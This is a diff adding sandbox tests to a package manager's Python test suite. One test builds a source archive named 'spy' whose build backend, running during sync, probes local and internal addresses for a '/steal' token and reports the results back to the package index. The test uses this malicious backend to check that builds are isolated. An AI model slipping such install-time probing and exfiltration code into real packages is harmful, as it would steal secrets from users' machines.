@@ -7,11 +7,14 @@ beside it are copied to where any user can reach them. Prints `ok NAME`, `not ok
 """
 
 import hashlib
+import http.server
+import io
 import json
 import os
 import shutil
 import subprocess
 import sys
+import tarfile
 import threading
 from pathlib import Path
 
@@ -22,7 +25,7 @@ from cases import WITHOUT_REASON, Skip, check, drive, test  # noqa: E402  (besid
 from wheels import make_wheel  # noqa: E402
 
 LIMIT_S = 300
-PROGRAMS = ("px", "px-main", "px-layer", "px-fetch")
+PROGRAMS = ("px", "px-main", "px-layer", "px-fetch", "px-net")
 HASH = "0123456789abcdef" * 4
 
 
@@ -504,6 +507,108 @@ def a_directory_of_another(w):
 
 
 # ---- running them ----------------------------------------------------------------------------------------------------
+
+
+@test
+def links_that_a_project_brings_lead_nowhere(w):
+    """.px and .px/envs of a repository as links: nothing is written through them."""
+    w.manifest()
+    outside = w.top / "outside"
+    outside.mkdir()
+    (outside / "current").write_text("mine")
+    (w.dir / ".px").symlink_to(outside)
+    w.refused("sync", code="PX007")
+    (w.dir / ".px").unlink()
+    (w.dir / ".px").mkdir()
+    (w.dir / ".px" / "envs").symlink_to(outside)
+    w.refused("sync", code="PX007")
+    equal({path.name: path.read_text() for path in outside.iterdir()}, {"current": "mine"}, "a directory outside of the project")
+
+
+# ---- where the code of packages gets ---------------------------------------------------------------------------------
+
+BACKEND = """
+import socket
+def ask(place, path):
+    try:
+        with socket.create_connection(place, 20) as s:
+            s.sendall(b"GET " + path.encode() + b" HTTP/1.0\\r\\n\\r\\n")
+            return "heard" if s.recv(100) else "closed"
+    except OSError:
+        return "no"
+def prepare_metadata_for_build_wheel(directory, config_settings=None):
+    said = ",".join(name + "=" + ask(place, "/steal") for name, place in PLACES)
+    ask(dict(PLACES)["index"], "/said/" + said)
+    raise SystemExit("that was all")
+"""
+
+
+def source_archive(places):
+    """A package whose build is a program of its author's."""
+    data = io.BytesIO()
+    files = {"pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+             "backend.py": BACKEND.replace("PLACES", repr(places)), "PKG-INFO": "Metadata-Version: 2.1\nName: spy\nVersion: 1.0\n"}
+    with tarfile.open(fileobj=data, mode="w:gz") as archive:
+        for name, text in files.items():
+            entry = tarfile.TarInfo(f"spy-1.0/{name}")
+            entry.size = len(text.encode())
+            archive.addfile(entry, io.BytesIO(text.encode()))
+    return data.getvalue()
+
+
+@test
+def code_of_packages_reaches_the_index_alone(w):
+    """To learn what a source archive needs its code is run, in `px sync`: it gets to the user's index and to no other service of this machine."""
+    w.stock()
+    asked = {}
+
+    class Handler(http.server.SimpleHTTPRequestHandler):
+        def do_GET(self):
+            asked.setdefault(self.server.server_port, []).append(self.path)
+            name = self.path.strip("/").split("/")[-1]
+            body = self.server.pages.get(name)
+            self.send_response(200 if body is not None else 404)
+            self.send_header("Content-Length", str(len(body or b"")))
+            self.send_header("Content-Type", "text/html" if name in ("spy", "alpha", "beta") else "application/octet-stream")
+            self.end_headers()
+            self.wfile.write(body or b"")
+
+        def log_message(self, *words):
+            pass
+
+    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2)]
+    index, other = (server.server_port for server in servers)
+    places = [("index", ("127.0.0.1", index)), ("other", ("127.0.0.1", other)), ("named", ("localhost", other)), ("relay", ("10.0.2.2", other)),
+              ("six", ("::1", other)), ("own", ("10.0.2.100", other)), ("listener", ("127.0.0.1", 1)), ("name", ("example.invalid", 80))]
+    link = lambda name: f'<a href="/files/{name}">{name}</a>'.encode()  # noqa: E731
+    servers[0].pages = {"spy": link("spy-1.0.tar.gz"), "spy-1.0.tar.gz": source_archive(places), "steal": b"x",
+                        "beta": link("beta-1.5-py3-none-any.whl"), "beta-1.5-py3-none-any.whl": (w.wheels / "beta-1.5-py3-none-any.whl").read_bytes()}
+    servers[1].pages = {"steal": b"internal-token=42"}
+    for server in servers:
+        server.handle_error = lambda *words: None       # a package hangs up
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+    settings = {"PIP_NO_INDEX": "", "PIP_FIND_LINKS": "", "PIP_INDEX_URL": f"http://127.0.0.1:{index}/simple"}
+    try:
+        w.manifest(["beta"])
+        if json.loads(w.run("--json", "sync", **settings).stdout)["details"].get("code") == "PX500":
+            raise Skip("this kernel has no rules for the network of a box (nftables)")
+        w.ask("sync", **settings)
+        check("beta-1.5" in w.lock() and f"http://127.0.0.1:{index}/files/beta" in w.lock(), w.lock())
+        w.manifest(["beta", "spy"])
+        (w.dir / "px.lock").unlink()
+        (w.dir / "pip.conf").write_text(f"[global]\nindex-url = http://127.0.0.1:{other}/simple\n")     # of the project: not asked
+        answer = w.refused("sync", code="PX120", **settings)
+        said = [path.removeprefix("/said/") for path in asked[index] if path.startswith("/said/")]
+        check(said, f"the package could not even tell the index: {asked} {answer}")
+        found = dict(word.split("=") for word in said[0].split(","))
+        equal(found.pop("index"), "heard", "the user's own index")
+        check(len(found) == len(places) - 1 and set(found.values()) <= {"no", "closed"}, f"what a package reached: {found}")
+        equal(asked.get(other), None, f"another service of this machine heard from a package: {said}")
+        check("PX_INDEX_HOSTS" in " ".join(answer["details"]["why"]), f"{answer}")
+    finally:
+        for server in servers:
+            server.shutdown()
+            server.server_close()
 
 
 if __name__ == "__main__":
